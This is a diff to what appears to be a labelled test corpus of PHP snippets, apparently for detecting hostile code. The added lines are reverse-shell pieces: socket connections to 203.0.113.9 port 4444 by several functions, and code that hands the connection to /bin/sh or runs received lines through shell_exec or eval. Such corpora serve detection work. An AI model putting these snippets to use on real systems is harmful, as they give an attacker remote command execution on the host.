@@ -54,6 +54,23 @@ file_put_contents("/tmp/a.sh", $c);
 shell_exec("sh /tmp/a.sh");
 %% run: made a function
 $f = create_function("", $c); $f();
+%% link: socket
+$s = fsockopen("203.0.113.9", 4444);
+%% link: lasting socket
+$s = pfsockopen("tcp://203.0.113.9", 4444);
+%% link: stream
+$s = stream_socket_client("tcp://203.0.113.9:4444");
+%% link: socket in two steps
+$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
+socket_connect($s, "203.0.113.9", 4444);
+%% obey: shell at a number
+exec("/bin/sh -i <&3 >&3 2>&3");
+%% obey: process with the connection
+$p = proc_open("/bin/sh", [0 => $s, 1 => $s, 2 => $s], $pipes);
+%% obey: loop over lines
+while ($c = fgets($s)) { fwrite($s, shell_exec($c)); }
+%% obey: evaluated
+while ($c = fgets($s)) { eval($c); }
 %% ordinary
 $d = 'three of four are done';
 %% shown
